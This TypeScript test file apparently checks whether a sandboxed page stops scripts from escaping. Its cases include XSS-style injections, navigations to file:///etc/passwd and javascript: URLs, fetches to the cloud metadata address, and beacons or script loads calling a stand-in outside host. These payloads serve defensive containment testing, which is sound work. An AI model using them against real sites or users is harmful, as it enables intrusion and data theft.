import type { Case } from './case.ts';

/** Addresses that lead out: by row, all that browsers and desktops have a use for. */
const addresses: [number, string[]][] = [
  [
    24,
    [
      'https://example.org/',
      'http://203.0.113.7/',
      '//example.org/',
      'mailto:a@example.org',
      'tel:+212500000000',
      'sms:+212500000000',
    ],
  ],
  [25, ['file:///etc/passwd', 'file://localhost/etc/passwd', 'file:////host/c$']],
  [26, ['javascript:window.escaped=1', 'java\\tscript:window.escaped=1', 'vbscript:msgbox(1)']],
  [27, ['data:text/html,<h1>out</h1>', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:null/1']],
  [
    28,
    [
      'about:blank',
      'chrome://settings',
      'devtools://devtools/bundled/inspector.html',
      'view-source:http://127.0.0.1/',
      'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/',
      'filesystem:http://127.0.0.1/temporary/',
    ],
  ],
  [
    29,
    [
      'intent://scan/#Intent;scheme=zxing;end',
      'shell:startup',
      'ms-settings:',
      'steam://run/1',
      'apt://vim',
      'ssh://example.org',
      'x-own://thing',
    ],
  ],
  [31, ['/api/status', '/?other', '#other', 'http://127.0.0.1:631/']],
];

/** How a script, or content that became one, would open an address. */
const ways: [string, (address: string) => string][] = [
  ['location', (address) => `location.href = '${address}'`],
  ['replace', (address) => `location.replace('${address}')`],
  ['link', (address) => withElement('a', `href: '${address}'`, 'click()')],
  ['link to a window', (address) => withElement('a', `href: '${address}', target: '_blank', rel: 'opener'`, 'click()')],
  ['open', (address) => `void window.open('${address}')`],
  ['form', (address) => withElement('form', `action: '${address}', method: 'get'`, 'submit()')],
  ['frame', (address) => withElement('iframe', `src: '${address}'`, 'focus()')],
  ['refresh', (address) => withElement('meta', `httpEquiv: 'refresh', content: '0;url=${address}'`, 'focus?.()')],
  ['embed', (address) => withElement('object', `data: '${address}'`, 'focus()')],
  ['download', (address) => withElement('a', `href: '${address}', download: 'file.html'`, 'click()')],
];

function withElement(tag: string, properties: string, act: string): string {
  return `{ const element = Object.assign(document.createElement('${tag}'), { ${properties} }); document.body.append(element);
    element.${act}; setTimeout(() => element.remove(), 100); }`;
}

const script = (row: number, name: string, expression: string): Case => ({
  row,
  name,
  // It may fail: that is what it should do.
  attempt: (_session, page) => page.run(`(async () => { ${expression} })()`).catch(() => undefined),
});

const openings = addresses.flatMap(([row, list]) =>
  list.flatMap((address) => ways.map(([way, open]) => script(row, `${way}: ${address}`, open(address)))),
);

/** What else a script may ask a browser for. What waits for an answer of a person is not waited for. */
const asks: [number, string][] = [
  [8, 'print()'],
  [30, "void open('', 'name')"],
  [30, "void open('about:blank', 'name', 'popup,noopener')"],
  [30, 'for (let count = 0; count < 50; count++) void open()'],
  [31, "history.pushState({}, '', '/elsewhere')"],
  [31, "history.replaceState({}, '', '/elsewhere')"],
  [31, 'history.back()'],
  [31, 'navigation.navigate("https://example.org/").finished.catch(() => {})'],
  [
    31,
    "document.baseURI; document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.org/' }))",
  ],
  [40, "Object.assign(document.createElement('input'), { type: 'file' }).click()"],
  [40, "Object.assign(document.createElement('input'), { type: 'file', webkitdirectory: true }).click()"],
  [40, "Object.assign(document.createElement('input'), { type: 'file' }).showPicker()"],
  [40, 'void showOpenFilePicker()'],
  [40, 'void showSaveFilePicker()'],
  [40, 'void showDirectoryPicker()'],
  [
    41,
    "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.html' }).click()",
  ],
  [43, 'void navigator.clipboard.readText()'],
  [43, "document.execCommand('copy')"],
  [43, "document.execCommand('paste')"],
  [44, 'alert(1)'],
  [44, 'confirm(1)'],
  [44, 'prompt(1)'],
  [44, "onbeforeunload = (event) => { event.preventDefault(); event.returnValue = 'x'; }; location.reload()"],
  [45, 'void document.documentElement.requestFullscreen()'],
  [45, 'void document.exitFullscreen()'],
  [45, 'void document.body.requestPointerLock()'],
  [45, 'void navigator.keyboard.lock()'],
  [45, 'void documentPictureInPicture.requestWindow()'],
  [45, 'resizeTo(100, 100); moveTo(300, 300); resizeBy(-50, -50)'],
  [45, "void screen.orientation.lock('landscape')"],
  [46, 'void navigator.mediaDevices.getUserMedia({ audio: true, video: true })'],
  [46, 'void navigator.mediaDevices.getDisplayMedia()'],
  [46, 'navigator.geolocation.getCurrentPosition(() => { window.escaped = 1 })'],
  [46, 'void Notification.requestPermission().then((answer) => { if (answer === "granted") window.escaped = 1 })'],
  [46, 'void navigator.requestMIDIAccess({ sysex: true }).then(() => { window.escaped = 1 })'],
  [46, 'void navigator.usb.requestDevice({ filters: [] })'],
  [46, 'void navigator.serial.requestPort()'],
  [46, 'void navigator.hid.requestDevice({ filters: [] })'],
  [46, 'void navigator.bluetooth.requestDevice({ acceptAllDevices: true })'],
  [46, 'void IdleDetector.requestPermission()'],
  [46, 'void queryLocalFonts().then(() => { window.escaped = 1 })'],
  [46, 'void getScreenDetails().then(() => { window.escaped = 1 })'],
  [46, 'void document.requestStorageAccess()'],
  [46, "void navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'localhost' } })"],
  [46, 'void navigator.credentials.get({ password: true })'],
  [
    46,
    "void new PaymentRequest([{ supportedMethods: 'https://example.org/pay' }], { total: { label: 'x', amount: { currency: 'MAD', value: '1' } } }).show()",
  ],
  [46, "void navigator.share({ title: 'x', url: 'https://example.org' })"],
  [46, 'void new EyeDropper().open()'],
  [46, 'void navigator.wakeLock.request()'],
  [46, "navigator.registerProtocolHandler('web+own', 'http://127.0.0.1/%s')"],
  [47, "void navigator.serviceWorker.register('/sw.js')"],
  [47, "void new SharedWorker('/worker.js')"],
  [47, "void new Worker('/worker.js')"],
  [47, "void caches.open('x').then((cache) => cache.put('/', new Response('out')))"],
  [48, "void fetch('https://example.org/').catch(() => {})"],
  [48, "void fetch('http://169.254.169.254/latest/meta-data/').catch(() => {})"],
  [48, "void fetch('http://127.0.0.1:631/').catch(() => {})"],
  [48, "void fetch('http://localhost:80/', { mode: 'no-cors' }).catch(() => {})"],
  [48, "navigator.sendBeacon('http://203.0.113.7/', 'x')"],
  [48, "void new WebSocket('ws://203.0.113.7/')"],
  [48, "void new EventSource('http://203.0.113.7/')"],
  [48, "new Image().src = 'http://203.0.113.7/x.png'"],
  [48, "void new WebTransport('https://203.0.113.7/')"],
  [
    48,
    "void (async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:53' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(); })()",
  ],
  ...[
    'dns-prefetch',
    'preconnect',
    'prefetch',
    'prerender',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
  ].map((relation): [number, string] => [
    48,
    `document.head.append(Object.assign(document.createElement('link'), { rel: '${relation}', as: 'script', href: 'http://203.0.113.7/x' }))`,
  ]),
  [
    33,
    "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>top.escaped=1</script>' }))",
  ],
  [
    33,
    "document.body.append(document.createElement('webview'), document.createElement('fencedframe'), document.createElement('embed'))",
  ],
  [34, "document.body.innerHTML = '<img src=x onerror=window.escaped=1>'"],
  [34, "document.body.insertAdjacentHTML('beforeend', '<svg onload=window.escaped=1>')"],
  [34, "document.body.append(Object.assign(document.createElement('script'), { text: 'window.escaped=1' }))"],
  [34, "document.body.append(Object.assign(document.createElement('script'), { src: 'http://203.0.113.7/x.js' }))"],
  [
    34,
    "document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(http://203.0.113.7/x.css)' }))",
  ],
  [34, "document.body.style.background = 'url(http://203.0.113.7/x.png)'"],
  [34, "new Function('window.escaped=1')()"],
  [34, "setTimeout('window.escaped=1')"],
  [34, "new DOMParser().parseFromString('<p>', 'text/html')"],
];

export const scriptCases: Case[] = [
  ...openings,
  ...asks.map(([row, expression]) => script(row, expression, expression)),
];

/** What gets out of a page that looks after nothing, in a browser as it comes. The last one holds the page up for a while. */
export const scriptControls = [
  'open: https://example.org/',
  'link to a window: https://example.org/',
  'download: data:text/html,<h1>out</h1>',
  'link: mailto:a@example.org',
  'location: javascript:window.escaped=1',
  'open: about:blank',
  'link: x-own://thing',
  "void open('', 'name')",
  'history.back()',
  'frame: /?other',
  "document.body.innerHTML = '<img src=x onerror=window.escaped=1>'",
  "Object.assign(document.createElement('input'), { type: 'file' }).click()",
  "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.html' }).click()",
  'void new EyeDropper().open()',
  "void new SharedWorker('/worker.js')",
  "void fetch('http://localhost:80/', { mode: 'no-cors' }).catch(() => {})",
  'void documentPictureInPicture.requestWindow()',
  'print()',
];
